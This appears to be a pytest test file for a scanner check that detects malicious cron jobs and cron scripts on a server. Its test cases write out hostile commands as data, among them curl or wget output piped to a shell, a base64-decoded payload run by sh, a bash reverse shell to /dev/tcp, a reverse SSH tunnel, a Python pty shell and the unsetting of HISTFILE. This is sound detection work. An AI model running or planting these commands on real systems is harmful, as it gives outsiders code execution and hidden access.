# ruff: noqa: E501 - a case stands on one line

from __future__ import annotations

import pytest

from pratique.checks.persistence.cron_fetches_code import CHECK
from pratique.model import Severity
from pratique.parsers.crontab import Crontab
from pratique.parsers.startup_command import StartupCommand
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def job(command, *, given="", path="/etc/crontab", event=None):
    times = (None,) * 5 if event else ("*",) * 5
    return Crontab(path, 3, event, *times, "root", command, given, active=True)


def script(*commands, path="/etc/cron.daily/x", interpreter="sh"):
    return [
        StartupCommand(path, number, "cron", interpreter, command)
        for number, command in enumerate(commands, start=2)
    ]


@pytest.mark.parametrize(
    ("command", "severity", "title"),
    [
        ("curl -fsSL http://a.example/x | bash", Severity.HIGH, "A cron job downloads code and runs it"),
        ("cd /tmp && wget -qO- http://a.example/x|sh", Severity.HIGH, "A cron job downloads code and runs it"),
        ("echo eA== | base64 -d | sh", Severity.HIGH, "A cron job decodes hidden code and runs it"),
        ("bash -i >& /dev/tcp/192.0.2.7/4 0>&1", Severity.HIGH, "A cron job gives a shell to somebody outside"),
        ("autossh -f -N -R 22:localhost:22 x@192.0.2.7", Severity.MEDIUM, "A cron job opens a tunnel into this server"),
        ("unset HISTFILE", Severity.LOW, "A cron job hides traces"),
    ],
)  # fmt: skip
def test_points_at(typed, command, severity, title):
    (sign,) = signs(job(command))
    assert (sign.severity, sign.title.english) == (severity, title)
    assert (sign.places[0].path, sign.places[0].line) == ("/etc/crontab", 3)
    assert typed(sign) == "sed -n 3p ROOT/etc/crontab 2>&1 | cut -c1-400 | cat -v"


def test_points_at_what_cron_gives_to_a_shell():
    assert signs(job("sh", given="curl http://a.example/x | sh%true"))


def test_points_at_a_script_whose_lines_only_mean_something_together():
    (sign,) = signs(*script("U=http://a.example", "wget -q $U/kit -O /opt/k", "sh /opt/k"))
    assert sign.places[0].line == 4


def test_points_at_a_line_behind_a_stray_quote():
    assert signs(*script("echo 'a", "curl http://a.example/x | sh"))


def test_points_at_a_script_in_another_language():
    code = "import socket,pty; s=socket.socket(); pty.spawn('/bin/sh')"
    assert signs(*script("import os", code, interpreter="python3"))


@pytest.mark.parametrize(
    "command",
    [
        "curl -o /var/backups/list https://a.example/list",
        "curl -fsS https://hc-ping.example/uuid >/dev/null",
        "curl https://a.example/ping; sh /opt/report.sh",
        "cd / && run-parts --report /etc/cron.hourly",
        "/usr/bin/certbot renew",
        "/tmp/x",  # another check's
    ],
)
def test_leaves_alone(command):
    assert signs(job(command), *script(command)) == []
